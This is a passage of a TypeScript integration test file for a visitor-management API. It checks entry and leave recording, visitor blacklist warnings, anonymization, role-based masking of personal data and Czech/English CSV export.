// Over 600 lines: one module's HTTP story against one database; its cases share the set-up of the file.
import { and, eq, sql } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestContext, expectEvery, type TestContext, type TestUser } from '../../../test/helper';
import { emails } from '../messaging/messaging.tables';
import { siteProperties } from '../../platform/platform.tables';
import { blacklistEntries, gateMovements } from '../site/site.tables';
import { enter, givenVisitSite, visitor, type VisitSite } from './visit.fixtures';
import { visitCompanions, visits } from './visit.tables';

let ctx: TestContext;
let site: VisitSite;
let otherSite: VisitSite;
let reception: TestUser;
let viewer: TestUser;
let kiosk: TestUser;
let visitAdmin: TestUser;

beforeAll(async () => {
  ctx = await createTestContext();
  site = await givenVisitSite(ctx, ctx.siteA);
  otherSite = await givenVisitSite(ctx, ctx.siteB);
  reception = await ctx.givenUser({ roles: ['VISIT_USER', 'VIEW_PERSONAL_INFO'] });
  viewer = await ctx.givenUser({ roles: ['VISIT_VIEW'] });
  kiosk = await ctx.givenUser({ roles: ['VISIT_KIOSK'] });
  visitAdmin = await ctx.givenUser({ roles: ['VISIT_ADMIN', 'VIEW_PERSONAL_INFO'] });
});
afterAll(() => ctx?.close());

const movementsOf = (gateId: number) =>
  ctx.db.select().from(gateMovements).where(eq(gateMovements.gateId, gateId));

describe('entry (Zapsat vstup)', () => {
  it('records an IN movement in the area with companions, equipment and a gate passage', async () => {
    const before = (await movementsOf(site.backGate)).length;
    const response = await enter(
      ctx,
      reception,
      visitor(site, {
        gate: site.backGate,
        vehiclePlate: '1ab 2345',
        companions: [{ name: 'Petr Malý', document: 'OP 123' }],
        equipment: [{ object: 'Notebook', serialNumber: 'SN-1' }],
      }),
    );
    expect(response.statusCode).toBe(201);
    const record = response.json();
    expect(record).toMatchObject({
      direction: 'IN',
      inArea: true,
      departed: false,
      vehiclePlate: '1AB2345',
      gate: { id: site.backGate, label: 'Back gate' },
      documentType: { id: site.idCard, label: 'ID card' },
      blacklistInternalPerson: 'OK',
      blacklistInternalVehicle: 'OK',
      // No government register is configured in this app (visit.blacklist.test.ts has the providers).
      blacklistGovernmentPerson: 'NOT_CHECKED',
      blacklistGovernmentVehicle: 'NOT_CHECKED',
    });
    expect(record.companions).toEqual([{ id: expect.any(Number), name: 'Petr Malý', document: 'OP 123' }]);
    expect(record.equipment).toEqual([{ id: expect.any(Number), object: 'Notebook', serialNumber: 'SN-1' }]);
    const movements = await movementsOf(site.backGate);
    expect(movements.length).toBe(before + 1);
    expect(movements.at(-1)).toMatchObject({ direction: 'IN', siteId: ctx.siteA });

    const companions = await ctx.call(reception, 'GET', `/api/visit/accompaniment?visit=${record.id}`);
    expect(companions.json()).toMatchObject([{ name: 'Petr Malý', visit: { id: record.id } }]);
    const equipment = await ctx.call(reception, 'GET', `/api/visit/equipment?visit=${record.id}`);
    expect(equipment.json()).toMatchObject([{ object: 'Notebook', serialNumber: 'SN-1' }]);
  });

  it('requires the visitor names, the purpose and the gate', async () => {
    const response = await enter(ctx, reception, {
      purpose: site.delivery,
      gate: site.gate,
      lastName: 'Only',
    });
    expect(response.statusCode).toBe(400);
    expect(response.json().details).toEqual([{ path: 'firstName', message: 'validation.required' }]);
    const missing = await enter(ctx, reception, { firstName: 'A', lastName: 'B' });
    expect(missing.statusCode).toBe(400);
    expect(
      missing
        .json()
        .details.map((detail: { path: string }) => detail.path)
        .sort(),
    ).toEqual(['gate', 'purpose']);
  });

  it('refuses a purpose or gate of another site as if it did not exist', async () => {
    const response = await enter(ctx, reception, visitor(site, { purpose: otherSite.delivery }));
    expect(response.statusCode).toBe(400);
    expect(response.json().details).toEqual([{ path: 'purpose', message: 'validation.ref' }]);
  });

  it('warns with 409 ALREADY_IN_AREA when the person is in the area, and continues with force', async () => {
    const person = visitor(site);
    expect((await enter(ctx, reception, person)).statusCode).toBe(201);
    const again = await enter(ctx, reception, { ...person, firstName: 'JANA', documentNumber: null });
    expect(again.statusCode).toBe(409);
    expect(again.headers['x-error-code']).toBe('ALREADY_IN_AREA');
    expect(again.json().details).toContainEqual({ path: 'inArea', message: 'ALREADY_IN_AREA' });
    const otherDocument = await enter(ctx, reception, { ...person, documentNumber: 'ZZ999' });
    expect(otherDocument.statusCode).toBe(201);
    const forced = await enter(ctx, reception, { ...person, force: true });
    expect(forced.statusCode).toBe(201);
  });

  it("gives 'Card does not exist' for an unknown card and takes a valid one", async () => {
    const unknown = await enter(ctx, reception, visitor(site, { tag: 'NO-SUCH-CARD' }));
    expect(unknown.statusCode).toBe(400);
    expect(unknown.headers['x-error-code']).toBe('CARD_NOT_FOUND');
    expect(
      (await ctx.call(reception, 'GET', '/api/visit/card/code/NO-SUCH-CARD')).headers['x-error-code'],
    ).toBe('CARD_NOT_FOUND');
    const byCode = await ctx.call(reception, 'GET', `/api/visit/card/code/${site.card.code}`);
    expect(byCode.json()).toMatchObject({ id: site.card.id, code: site.card.code });
    const otherSiteCard = await ctx.call(reception, 'GET', `/api/visit/card/code/${otherSite.card.code}`);
    expect(otherSiteCard.headers['x-error-code']).toBe('CARD_NOT_FOUND');

    const withCard = await enter(ctx, reception, visitor(site, { tag: site.card.code }));
    expect(withCard.statusCode).toBe(201);
    expect(withCard.json().tag).toBe(site.card.code);
    const cardInUse = await enter(ctx, reception, visitor(site, { tag: site.card.code }));
    expect(cardInUse.statusCode).toBe(400);
    expect(cardInUse.json().details).toEqual([{ path: 'tag', message: 'validation.cardInUse' }]);
    await ctx.call(reception, 'POST', `/api/visit/${withCard.json().id}/leave`, { gate: site.gate });
  });

  it('sends the purpose notification e-mails through the outbox', async () => {
    const response = await enter(
      ctx,
      reception,
      visitor(site, { purpose: site.meeting, lastName: 'Mailová' }),
    );
    expect(response.statusCode).toBe(201);
    const queued = await ctx.db.select().from(emails).where(eq(emails.siteId, ctx.siteA));
    const mine = queued.filter((email) => email.subject.includes('Mailová'));
    expect(mine.map((email) => email.recipient).sort()).toEqual([
      'boss@example.com',
      'reception@example.com',
    ]);
    expect(mine[0].body).toContain('Main gate');
    // The time in the site's zone as the UI shows it, not ISO UTC (advice.routes.test.ts checks the value).
    expect(mine[0].body).toMatch(/čas: \d\d\.\d\d\.\d{4} \d\d:\d\d:\d\d/);
    expect(mine[0].body).not.toMatch(/\d{4}-\d\d-\d\dT/);
    expect(mine[0].sent).toBeNull();
  });
});

describe('blacklists at entry', () => {
  it('answers an internal hit with each list, matched value, reason and note, and refuses it unacknowledged', async () => {
    await ctx.db.insert(blacklistEntries).values([
      {
        siteId: ctx.siteA,
        category: 'PERSON',
        reason: 'Theft',
        note: 'Call the duty officer',
        firstName: 'Karel',
        lastName: 'Zakázaný',
      },
      { siteId: ctx.siteA, category: 'VEHICLE', reason: 'Damage', licencePlate: '9Z99999' },
    ]);
    const person = visitor(site, { firstName: 'karel', lastName: 'ZAKÁZANÝ', vehiclePlate: '9Z9 9999' });
    const warned = await enter(ctx, reception, person);
    expect(warned.statusCode).toBe(409);
    expect(warned.headers['x-error-code']).toBe('BLACKLIST_HIT');
    expect(warned.json().details).toEqual([
      { path: 'blacklistInternalPerson', message: 'BLACKLIST_HIT' },
      { path: 'blacklistInternalVehicle', message: 'BLACKLIST_HIT' },
    ]);
    expect(warned.json().blacklistHits).toEqual([
      {
        list: 'blacklistInternalPerson',
        matchedBy: 'NAME',
        value: 'Karel Zakázaný',
        reason: 'Theft',
        note: 'Call the duty officer',
      },
      {
        list: 'blacklistInternalVehicle',
        matchedBy: 'PLATE',
        value: '9Z99999',
        reason: 'Damage',
        note: null,
      },
    ]);

    // `force` confirms only "already in the area"; each hit must be named, a partial confirmation is refused.
    const forced = await enter(ctx, reception, { ...person, force: true });
    expect(forced.statusCode).toBe(409);
    expect(forced.headers['x-error-code']).toBe('BLACKLIST_HIT');
    const partly = await enter(ctx, reception, {
      ...person,
      blacklistAcknowledged: ['blacklistInternalPerson'],
    });
    expect(partly.headers['x-error-code']).toBe('BLACKLIST_HIT');
    const unknownList = await enter(ctx, reception, { ...person, blacklistAcknowledged: ['blacklistOther'] });
    expect(unknownList.statusCode).toBe(400);
    const nothingSaved = await ctx.db
      .select({ id: visits.id })
      .from(visits)
      .where(and(eq(visits.siteId, ctx.siteA), eq(visits.lastName, 'ZAKÁZANÝ')));
    expect(nothingSaved).toEqual([]);

    const acknowledged = await enter(ctx, reception, {
      ...person,
      blacklistAcknowledged: ['blacklistInternalPerson', 'blacklistInternalVehicle'],
    });
    expect(acknowledged.statusCode).toBe(201);
    const record = acknowledged.json();
    expect(record).toMatchObject({
      inArea: true,
      blacklistInternalPerson: 'HIT',
      blacklistInternalVehicle: 'HIT',
      blacklistGovernmentPerson: 'NOT_CHECKED',
      blacklistGovernmentVehicle: 'NOT_CHECKED',
    });
    expect(record.blacklistHits).toEqual([
      expect.objectContaining({ list: 'blacklistInternalPerson', reason: 'Theft', value: 'Karel Zakázaný' }),
      expect.objectContaining({ list: 'blacklistInternalVehicle', reason: 'Damage', value: '9Z99999' }),
    ]);

    // The overview (in the area now) and the detail carry the hits; a viewer sees them without the value.
    const overview = await ctx.call(viewer, 'GET', `/api/visit/overview?size=100`);
    const marked = (overview.json() as Array<{ id: number; blacklistHits: unknown[] }>).find(
      (row) => row.id === record.id,
    );
    expect(marked?.blacklistHits).toEqual([
      expect.objectContaining({
        list: 'blacklistInternalPerson',
        reason: 'Theft',
        value: '***',
        note: '***',
      }),
      expect.objectContaining({
        list: 'blacklistInternalVehicle',
        reason: 'Damage',
        value: '***',
        note: null,
      }),
    ]);
    const detail = await ctx.call(reception, 'GET', `/api/visit/${record.id}`);
    expect(detail.json().blacklistHits).toHaveLength(2);

    // The audit keeps who confirmed which hits and the markers written.
    const audit = await ctx.call(ctx.admin, 'GET', `/api/system_audit?author=${reception.userName}&size=100`);
    const entry = (
      audit.json() as Array<{ recordId: string | null; requestBody: Record<string, unknown>; changes: any }>
    ).find((row) => row.recordId === String(record.id));
    expect(entry?.requestBody.blacklistAcknowledged).toEqual([
      'blacklistInternalPerson',
      'blacklistInternalVehicle',
    ]);
    expect(entry?.changes.blacklistInternalPerson).toEqual({ to: 'HIT' });
  });

  it('keeps the hit (list, reason) but not the matched value after anonymization', async () => {
    await ctx.db.insert(blacklistEntries).values({
      siteId: ctx.siteA,
      category: 'PERSON',
      reason: 'Trespass',
      documentTypeId: site.idCard,
      documentNumber: 'BL-777',
    });
    const person = visitor(site, { purpose: site.anonymous, documentNumber: 'bl-777' });
    const warned = await enter(ctx, reception, person);
    expect(warned.json().blacklistHits).toEqual([
      {
        list: 'blacklistInternalPerson',
        matchedBy: 'DOCUMENT',
        value: 'BL-777',
        reason: 'Trespass',
        note: null,
      },
    ]);
    const entry = (
      await enter(ctx, reception, { ...person, blacklistAcknowledged: ['blacklistInternalPerson'] })
    ).json();
    const writeOff = await ctx.call(reception, 'POST', '/api/visit/writeoff', { id: entry.id });
    expect(writeOff.statusCode).toBe(200);
    expect(writeOff.json().blacklistHits).toEqual([
      expect.objectContaining({ list: 'blacklistInternalPerson', reason: 'Trespass', value: null }),
    ]);
  });

  it("does not match another site's blacklist", async () => {
    await ctx.db.insert(blacklistEntries).values({
      siteId: ctx.siteB,
      category: 'PERSON',
      reason: 'Only on site B',
      firstName: 'Ota',
      lastName: 'Jinde',
    });
    const here = await enter(ctx, reception, visitor(site, { firstName: 'Ota', lastName: 'Jinde' }));
    expect(here.statusCode).toBe(201);
    expect(here.json()).toMatchObject({ blacklistInternalPerson: 'OK', blacklistHits: [] });
  });

  it('asks about both warnings at once: in the area and on a blacklist', async () => {
    await ctx.db.insert(blacklistEntries).values({
      siteId: ctx.siteA,
      category: 'PERSON',
      reason: 'Fraud',
      lastName: 'Dvakrát',
    });
    const person = visitor(site, { lastName: 'Dvakrát' });
    await enter(ctx, reception, { ...person, blacklistAcknowledged: ['blacklistInternalPerson'] });
    const again = await enter(ctx, reception, person);
    expect(again.headers['x-error-code']).toBe('BLACKLIST_HIT');
    expect(again.json().details).toEqual([
      { path: 'inArea', message: 'ALREADY_IN_AREA' },
      { path: 'blacklistInternalPerson', message: 'BLACKLIST_HIT' },
    ]);
    const onlyHit = await enter(ctx, reception, {
      ...person,
      blacklistAcknowledged: ['blacklistInternalPerson'],
    });
    expect(onlyHit.headers['x-error-code']).toBe('ALREADY_IN_AREA');
    expect(onlyHit.json().blacklistHits).toHaveLength(1);
    const both = await enter(ctx, reception, {
      ...person,
      force: true,
      blacklistAcknowledged: ['blacklistInternalPerson'],
    });
    expect(both.statusCode).toBe(201);
  });

  it('marks the government checks NOT_CHECKED without a configured register (no simulator by default), with no warning', async () => {
    // The simulator would take a document or plate beginning with X for a hit.
    const response = await enter(
      ctx,
      reception,
      visitor(site, { documentNumber: 'X1234567', vehiclePlate: 'X1 0000' }),
    );
    expect(response.statusCode).toBe(201);
    expect(response.json()).toMatchObject({
      blacklistGovernmentPerson: 'NOT_CHECKED',
      blacklistGovernmentVehicle: 'NOT_CHECKED',
      blacklistInternalPerson: 'OK',
      blacklistInternalVehicle: 'OK',
    });
  });

  it('leaves the vehicle markers empty without a plate', async () => {
    const response = await enter(ctx, reception, visitor(site));
    expect(response.json()).toMatchObject({
      blacklistInternalVehicle: null,
      blacklistGovernmentVehicle: null,
    });
  });
});

describe('leave, untraced departure and write-off', () => {
  it('refuses an entry or leave time outside the site window, yet lets an old visit be corrected', async () => {
    const now = ctx.clock.now();
    const iso = (offsetMinutes: number) => new Date(now + offsetMinutes * 60_000).toISOString();
    const timeError = [{ path: 'movementTime', message: 'validation.timeWindow' }];
    for (const movementTime of [iso(-8 * 24 * 60), iso(10), '0001-01-01T00:00:00.000Z']) {
      const refused = await enter(ctx, reception, visitor(site, { movementTime }));
      expect(refused.statusCode, movementTime).toBe(400);
      expect(refused.json().details).toEqual(timeError);
    }
    const entry = await enter(ctx, reception, visitor(site, { movementTime: iso(-6 * 24 * 60) }));
    expect(entry.statusCode, entry.body).toBe(201);
    const leaveTooLate = await ctx.call(reception, 'POST', `/api/visit/${entry.json().id}/leave`, {
      gate: site.gate,
      movementTime: iso(60),
    });
    expect(leaveTooLate.statusCode).toBe(400);
    expect(leaveTooLate.json().details).toEqual(timeError);
    // Two days on, the entry lies beyond the week: its note can still be corrected, its time not moved out.
    await ctx.clock.advance(2 * 24 * 60 * 60_000);
    const stored = (await ctx.call(reception, 'GET', `/api/visit/${entry.json().id}`)).json();
    // The form sends the time back as it was.
    const corrected = await ctx.call(reception, 'PUT', `/api/visit/${stored.id}`, {
      version: stored.version,
      movementTime: stored.movementTime,
      note: 'Opraveno',
    });
    expect(corrected.statusCode, corrected.body).toBe(200);
    const moved = await ctx.call(reception, 'PUT', `/api/visit/${stored.id}`, {
      version: corrected.json().version,
      movementTime: iso(-9 * 24 * 60),
    });
    expect(moved.statusCode).toBe(400);
    expect(moved.json().details).toEqual(timeError);
  });

  it('records a leave (Zapsat odchod): an OUT row, the entry departed and out of the area', async () => {
    const entry = (await enter(ctx, reception, visitor(site))).json();
    await ctx.clock.advance(90 * 60_000);
    const leftAt = new Date(ctx.clock.now()).toISOString();
    const leave = await ctx.call(reception, 'POST', `/api/visit/${entry.id}/leave`, { gate: site.backGate });
    expect(leave.statusCode).toBe(201);
    expect(leave.json()).toMatchObject({
      movementTime: leftAt,
      direction: 'OUT',
      inArea: false,
      lastName: entry.lastName,
      gate: { id: site.backGate },
    });
    const after = (await ctx.call(reception, 'GET', `/api/visit/${entry.id}`)).json();
    expect(after).toMatchObject({
      inArea: false,
      departed: true,
      version: entry.version + 1,
      departureTime: leftAt,
    });
    const movements = await movementsOf(site.backGate);
    expect(movements.at(-1)).toMatchObject({ direction: 'OUT' });

    const twice = await ctx.call(reception, 'POST', `/api/visit/${entry.id}/leave`, { gate: site.gate });
    expect(twice.statusCode).toBe(409);
    expect(twice.headers['x-error-code']).toBe('NOT_IN_AREA');
  });

  it('records an untraced departure (Zapsat neevidovaný odchod) with a gate passage', async () => {
    const before = (await movementsOf(site.gate)).length;
    const response = await ctx.call(reception, 'POST', '/api/visit/departure', visitor(site));
    expect(response.statusCode).toBe(201);
    expect(response.json()).toMatchObject({ direction: 'OUT', inArea: false, departed: true });
    expect((await movementsOf(site.gate)).length).toBe(before + 1);
  });

  it('writes off (Odepsat bez odchodu) without a departure or gate passage', async () => {
    const entry = (await enter(ctx, reception, visitor(site))).json();
    const before = (await movementsOf(site.gate)).length;
    await ctx.clock.advance(30 * 60_000);
    const response = await ctx.call(reception, 'POST', '/api/visit/writeoff', { id: entry.id, note: 'Gone' });
    expect(response.statusCode).toBe(200);
    expect(response.json()).toMatchObject({
      inArea: false,
      departed: false,
      note: 'Gone',
      departureTime: new Date(ctx.clock.now()).toISOString(),
    });
    expect((await movementsOf(site.gate)).length).toBe(before);
    const again = await ctx.call(reception, 'POST', '/api/visit/writeoff', { id: entry.id });
    expect(again.headers['x-error-code']).toBe('NOT_IN_AREA');
  });

  it('refuses actions on another site’s visit as not found', async () => {
    const other = await ctx.givenUser({ roles: ['VISIT_USER', 'VIEW_PERSONAL_INFO'], sites: [ctx.siteB] });
    const entry = (await enter(ctx, other, visitor(otherSite))).json();
    expect((await ctx.call(reception, 'GET', `/api/visit/${entry.id}`)).statusCode).toBe(404);
    const leave = await ctx.call(reception, 'POST', `/api/visit/${entry.id}/leave`, { gate: site.gate });
    expect(leave.statusCode).toBe(404);
    expect((await ctx.call(reception, 'POST', '/api/visit/writeoff', { id: entry.id })).statusCode).toBe(404);
    const leaveByOtherGate = await ctx.call(other, 'POST', `/api/visit/${entry.id}/leave`, {
      gate: site.gate,
    });
    expect(leaveByOtherGate.statusCode).toBe(400);
  });
});

describe('anonymization', () => {
  it('removes personal data of a visit whose purpose anonymizes, at departure', async () => {
    const entry = (
      await enter(
        ctx,
        reception,
        visitor(site, { purpose: site.anonymous, vehiclePlate: '2B2 2222', companions: [{ name: 'Eva' }] }),
      )
    ).json();
    expect(entry.anonymized).toBe(false);
    expect(entry.lastName).toMatch(/^Nováková/);
    const leave = await ctx.call(reception, 'POST', `/api/visit/${entry.id}/leave`, { gate: site.gate });
    const rows = await ctx.db
      .select()
      .from(visits)
      .where(and(eq(visits.siteId, ctx.siteA), eq(visits.anonymized, true)));
    const ids = rows.map((row) => row.id);
    expect(ids).toEqual(expect.arrayContaining([entry.id, leave.json().id]));
    for (const row of rows.filter((r) => r.id === entry.id || r.id === leave.json().id)) {
      expect(row).toMatchObject({
        firstName: null,
        lastName: null,
        // The lowered names of the name search follow the names.
        firstNameLower: null,
        lastNameLower: null,
        documentNumber: null,
        documentTypeId: null,
        vehiclePlate: null,
        company: 'ACME s.r.o.',
      });
    }
    expect(await ctx.db.select().from(visitCompanions).where(eq(visitCompanions.visitId, entry.id))).toEqual(
      [],
    );
  });

  it('anonymizes an untraced departure and a write-off at once', async () => {
    const departure = await ctx.call(
      reception,
      'POST',
      '/api/visit/departure',
      visitor(site, { purpose: site.anonymous }),
    );
    expect(departure.json()).toMatchObject({ anonymized: true, lastName: null });
    const entry = (await enter(ctx, reception, visitor(site, { purpose: site.anonymous }))).json();
    const writeOff = await ctx.call(reception, 'POST', '/api/visit/writeoff', { id: entry.id });
    expect(writeOff.json()).toMatchObject({ anonymized: true, firstName: null });
  });

  it('keeps personal data of other purposes after departure', async () => {
    const entry = (await enter(ctx, reception, visitor(site))).json();
    await ctx.call(reception, 'POST', `/api/visit/${entry.id}/leave`, { gate: site.gate });
    expect((await ctx.call(reception, 'GET', `/api/visit/${entry.id}`)).json()).toMatchObject({
      anonymized: false,
      lastName: entry.lastName,
    });
  });
});

describe('roles, modules and personal data', () => {
  it('masks personal fields for callers without VIEW_PERSONAL_INFO and refuses personal filters', async () => {
    const entry = (
      await enter(
        ctx,
        reception,
        visitor(site, { vehiclePlate: '3C3 3333', companions: [{ name: 'Ota', document: 'P1' }] }),
      )
    ).json();
    const seen = (await ctx.call(viewer, 'GET', `/api/visit/${entry.id}`)).json();
    expect(seen).toMatchObject({
      firstName: '***',
      lastName: '***',
      documentNumber: '***',
      documentType: { label: '***' },
      vehiclePlate: '***',
      company: 'ACME s.r.o.',
      companions: [{ name: '***', document: '***' }],
    });
    const list = (await ctx.call(viewer, 'GET', '/api/visit?size=100')).json();
    expectEvery(
      list as Array<{ lastName: string | null }>,
      (row) => row.lastName === '***' || row.lastName === null,
    );
    const byName = await ctx.call(viewer, 'GET', '/api/visit?lastName=Nov');
    expect(byName.statusCode).toBe(403);
    expect(byName.headers['x-error-code']).toBe('PERSONAL_DATA_REQUIRED');
    expect(
      (await ctx.call(viewer, 'GET', `/api/visit/accompaniment?visit=${entry.id}`)).json(),
    ).toMatchObject([{ name: '***' }]);
    expect((await ctx.call(visitAdmin, 'GET', `/api/visit/${entry.id}`)).json().lastName).toBe(
      entry.lastName,
    );
  });

  it('refuses a personal-data change by a writer who sees the data only masked', async () => {
    const guardWithoutPersonal = await ctx.givenUser({ roles: ['VISIT_USER'] });
    const entry = (await enter(ctx, reception, visitor(site))).json();
    const masked = (await ctx.call(guardWithoutPersonal, 'GET', `/api/visit/${entry.id}`)).json();
    const overwrite = await ctx.call(guardWithoutPersonal, 'PUT', `/api/visit/${entry.id}`, {
      version: masked.version,
      lastName: masked.lastName,
      note: 'Parkuje u brány 2',
    });
    expect(overwrite.statusCode).toBe(403);
    expect(overwrite.headers['x-error-code']).toBe('PERSONAL_DATA_REQUIRED');
    const noteOnly = await ctx.call(guardWithoutPersonal, 'PUT', `/api/visit/${entry.id}`, {
      version: masked.version,
      note: 'Parkuje u brány 2',
    });
    expect(noteOnly.statusCode).toBe(200);
    const stored = (await ctx.call(reception, 'GET', `/api/visit/${entry.id}`)).json();
    expect(stored).toMatchObject({ lastName: entry.lastName, note: 'Parkuje u brány 2' });
  });

  it('lets the viewer read but not write, the kiosk only the overview', async () => {
    expect((await enter(ctx, viewer, visitor(site))).statusCode).toBe(403);
    expect((await ctx.call(viewer, 'GET', '/api/visit')).statusCode).toBe(200);
    expect((await ctx.call(kiosk, 'GET', '/api/visit')).statusCode).toBe(403);
    const overview = await ctx.call(kiosk, 'GET', '/api/visit/overview?size=100');
    expect(overview.statusCode).toBe(200);
    expectEvery(
      overview.json() as Array<{ inArea: boolean; lastName: string }>,
      (row) => row.inArea && row.lastName === '***',
    );
    expect((await ctx.call(kiosk, 'POST', '/api/visit/writeoff', { id: 1 })).statusCode).toBe(403);
  });

  it('manages purposes, visited persons and cards as VISIT_ADMIN only', async () => {
    const purpose = await ctx.call(visitAdmin, 'POST', '/api/visit/purpose', {
      name: 'Audit',
      notificationEmails: 'a@example.com, b@example.com',
    });
    expect(purpose.statusCode).toBe(201);
    expect(purpose.json()).toMatchObject({ anonymize: false, valid: true });
    const badEmails = await ctx.call(visitAdmin, 'POST', '/api/visit/purpose', {
      name: 'Bad',
      notificationEmails: 'a@example.com, nonsense',
    });
    expect(badEmails.json().details).toEqual([
      { path: 'notificationEmails', message: 'validation.emailList' },
    ]);
    expect((await ctx.call(reception, 'POST', '/api/visit/purpose', { name: 'X' })).statusCode).toBe(403);
    const duplicate = await ctx.call(visitAdmin, 'POST', '/api/visit/card', { code: site.card.code });
    expect(duplicate.headers['x-error-code']).toBe('DATA_INTEGRITY');
    const visited = await ctx.call(visitAdmin, 'POST', '/api/visit/visited', {
      firstName: 'Pavel',
      lastName: 'Ředitel',
      company: 'Strážce a.s.',
    });
    expect(visited.statusCode).toBe(201);
    const entry = await enter(ctx, reception, visitor(site, { visited: visited.json().id }));
    expect(entry.json()).toMatchObject({
      visited: { id: visited.json().id },
      visitedFirstName: 'Pavel',
      visitedLastName: 'Ředitel',
      visitedCompany: 'Strážce a.s.',
    });
  });

  it('refuses a site without the module', async () => {
    const siteWithout = await ctx.createSite('No visits', ['MOD_PATROL']);
    const user = await ctx.givenUser({ roles: ['VISIT_ADMIN'], sites: [siteWithout] });
    const response = await ctx.call(user, 'GET', '/api/visit');
    expect(response.statusCode).toBe(403);
    expect(response.headers['x-error-code']).toBe('MODULE_DISABLED');
  });
});

describe('lists, autocomplete and export', () => {
  let listSite: VisitSite;
  let guard: TestUser;

  beforeAll(async () => {
    const siteId = await ctx.createSite('Lists');
    listSite = await givenVisitSite(ctx, siteId);
    // Movements of 2024 recorded now: this site accepts times up to ten years back (CLIENT_TIME_PAST_MINUTES).
    await ctx.db
      .insert(siteProperties)
      .values({ siteId, name: 'CLIENT_TIME_PAST_MINUTES', type: 'LONG', value: 10 * 366 * 24 * 60 });
    guard = await ctx.givenUser({ roles: ['VISIT_USER', 'VIEW_PERSONAL_INFO'], sites: [siteId] });
    const times = ['2024-01-01T08:00:00.000Z', '2024-01-02T08:00:00.000Z', '2024-01-03T08:00:00.000Z'];
    await enter(
      ctx,
      guard,
      visitor(listSite, {
        firstName: 'Adam',
        lastName: 'Dvořák',
        movementTime: times[0],
        vehiclePlate: '1A1 1111',
      }),
    );
    const second = await enter(
      ctx,
      guard,
      visitor(listSite, {
        firstName: 'Bára',
        lastName: 'Černá',
        movementTime: times[1],
        purpose: listSite.meeting,
      }),
    );
    await enter(
      ctx,
      guard,
      visitor(listSite, {
        firstName: 'Adam',
        lastName: 'Dvořák',
        movementTime: times[2],
        gate: listSite.backGate,
        force: true,
      }),
    );
    await ctx.call(guard, 'POST', `/api/visit/${second.json().id}/leave`, {
      gate: listSite.gate,
      movementTime: '2024-01-02T10:00:00.000Z',
    });
  });

  const names = (response: { json(): Array<{ lastName: string; direction: string }> }) =>
    response.json().map((row) => `${row.lastName}:${row.direction}`);

  it('sorts by movement time descending by default, with the total', async () => {
    const response = await ctx.call(guard, 'GET', '/api/visit');
    expect(names(response)).toEqual(['Dvořák:IN', 'Černá:OUT', 'Černá:IN', 'Dvořák:IN']);
    expect(response.headers['x-total-count']).toBe('4');
  });

  it('filters by time range, direction, in area, purpose, gate, names and plate', async () => {
    const get = (query: string) => ctx.call(guard, 'GET', `/api/visit?${query}`);
    expect(
      names(await get('movementTimeFrom=2024-01-02T00:00:00.000Z&movementTimeTo=2024-01-02T23:59:59.000Z')),
    ).toEqual(['Černá:OUT', 'Černá:IN']);
    expect(names(await get('direction=OUT'))).toEqual(['Černá:OUT']);
    expect(names(await get('inArea=true'))).toEqual(['Dvořák:IN', 'Dvořák:IN']);
    expect(names(await get(`purpose=${listSite.meeting}`))).toEqual(['Černá:OUT', 'Černá:IN']);
    expect(names(await get(`gate=${listSite.backGate}`))).toEqual(['Dvořák:IN']);
    expect(names(await get('lastName=dvoř'))).toEqual(['Dvořák:IN', 'Dvořák:IN']);
    expect(names(await get('firstName=bár'))).toEqual(['Černá:OUT', 'Černá:IN']);
    expect(names(await get('vehiclePlate=1A1'))).toEqual(['Dvořák:IN']);
    expect(names(await get('sort=movementTime,asc&size=10'))).toEqual([
      'Dvořák:IN',
      'Černá:IN',
      'Černá:OUT',
      'Dvořák:IN',
    ]);
    expect((await get('overview=1')).statusCode).toBe(400);
  });

  it('lists who is in the area in the overview', async () => {
    const response = await ctx.call(guard, 'GET', '/api/visit/overview');
    expect(names(response)).toEqual(['Dvořák:IN', 'Dvořák:IN']);
    expect(response.headers['x-total-count']).toBe('2');
  });

  it('offers names to the autocomplete and the last visit of a name', async () => {
    const whisper = await ctx.call(guard, 'GET', '/api/visit/whisperer?name=dv');
    expect(whisper.json()).toEqual([{ firstName: 'Adam', lastName: 'Dvořák', company: 'ACME s.r.o.' }]);
    const last = await ctx.call(guard, 'GET', '/api/visit/lastbyname?firstName=adam&lastName=DVOŘÁK');
    expect(last.json()).toMatchObject({ lastName: 'Dvořák', movementTime: '2024-01-03T08:00:00.000Z' });
    const none = await ctx.call(guard, 'GET', '/api/visit/lastbyname?firstName=No&lastName=Body');
    expect(none.json()).toBeNull();
    expect((await ctx.call(viewer, 'GET', '/api/visit/whisperer?name=dv')).statusCode).toBe(403);
  });

  const csvLines = (body: string) =>
    body
      .replace(/^\uFEFF/, '')
      .trim()
      .split('\r\n');

  it('exports the filtered list as CSV in Czech: `;`, translated headers and values, local time', async () => {
    const response = await ctx.call(guard, 'GET', '/api/visit/export?direction=IN&lang=cs');
    expect(response.statusCode).toBe(200);
    expect(response.headers['content-type']).toContain('text/csv');
    expect(response.headers['content-disposition']).toContain('navstevy.csv');
    expect(response.body.startsWith('\uFEFF')).toBe(true);
    const lines = csvLines(response.body);
    const header = lines[0].split(';');
    expect(header.slice(0, 5)).toEqual(['ID', 'Čas', 'Směr', 'V areálu', 'Odešel']);
    expect(lines).toHaveLength(4);
    const row = lines[1].split(';');
    const cell = (name: string) => row[header.indexOf(name)];
    // 08:00 UTC in January is 09:00 on the site's clocks (Europe/Prague).
    expect(cell('Čas')).toBe('03.01.2024 09:00:00');
    expect(cell('Směr')).toBe('Vstup');
    expect(cell('V areálu')).toBe('Ano');
    expect(cell('Odešel')).toBe('Ne');
    expect(cell('Příjmení')).toBe('Dvořák');
    expect(cell('Brána')).toBe('Back gate');
    expect(cell('Interní seznam – osoba')).toBe('V pořádku');
    expect(cell('Státní seznam – osoba')).toBe('Nekontrolováno');
  });

  it('exports in English with `,` on request, or by the Accept-Language of the caller', async () => {
    const response = await ctx.call(guard, 'GET', '/api/visit/export?direction=OUT&lang=en');
    expect(response.headers['content-disposition']).toContain('visits.csv');
    const lines = csvLines(response.body);
    const header = lines[0].split(',');
    expect(header.slice(0, 5)).toEqual(['ID', 'Time', 'Direction', 'In the area', 'Departed']);
    expect(lines).toHaveLength(2);
    const row = lines[1].split(',');
    expect(row[header.indexOf('Time')]).toBe('02.01.2024 11:00:00');
    expect(row[header.indexOf('Direction')]).toBe('Departure');
    expect(row[header.indexOf('In the area')]).toBe('No');

    const byHeader = await ctx.call(guard, 'GET', '/api/visit/export?direction=OUT', undefined, {
      'accept-language': 'en-US,en;q=0.9',
    });
